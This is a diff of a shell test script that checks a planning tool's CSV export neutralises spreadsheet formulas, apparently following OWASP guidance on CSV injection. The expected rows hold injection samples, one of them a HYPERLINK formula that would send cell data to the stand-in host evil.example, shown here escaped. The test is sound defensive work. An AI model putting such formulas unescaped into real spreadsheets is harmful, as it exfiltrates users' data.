@@ -68,11 +68,11 @@ grep -q "$(printf '\r$')" "$tmp/q.csv" && ok "csv: CRLF line ends" || bad "csv l
 # behind a single quote (OWASP); the numbers beside them stay numbers.
 "$bin" plan --format csv "$dir/formulas.yaml" >"$tmp/f.csv" || bad "csv of formulas failed"
 cat >"$tmp/f.want" <<'EOF2'
-1,A,"'=1+2",should,0,10,5000,scheduled,2027-Q1,2027-Q1,
-2,B,"'+1+2",should,0,10,5000,scheduled,2027-Q1,2027-Q1,
-3,C,"'-1+2",should,0,10,5000,scheduled,2027-Q1,2027-Q1,
-4,D,"'@SUM(A1:A2)",should,0,10,5000,scheduled,2027-Q1,2027-Q1,
-5,E,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Report"")",should,0,10,5000,scheduled,2027-Q1,2027-Q1,
+1,A,"'=1+2",should,0,10,5000,scheduled,2027-Q1,2027-Q1,,,,EUR
+2,B,"'+1+2",should,0,10,5000,scheduled,2027-Q1,2027-Q1,,,,EUR
+3,C,"'-1+2",should,0,10,5000,scheduled,2027-Q1,2027-Q1,,,,EUR
+4,D,"'@SUM(A1:A2)",should,0,10,5000,scheduled,2027-Q1,2027-Q1,,,,EUR
+5,E,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Report"")",should,0,10,5000,scheduled,2027-Q1,2027-Q1,,,,EUR
 EOF2
 tail -n +2 "$tmp/f.csv" | tr -d '\r' | cmp -s - "$tmp/f.want" && ok "csv: formulas neutralised" ||
     { bad "csv: formulas not neutralised"; cat "$tmp/f.csv"; }
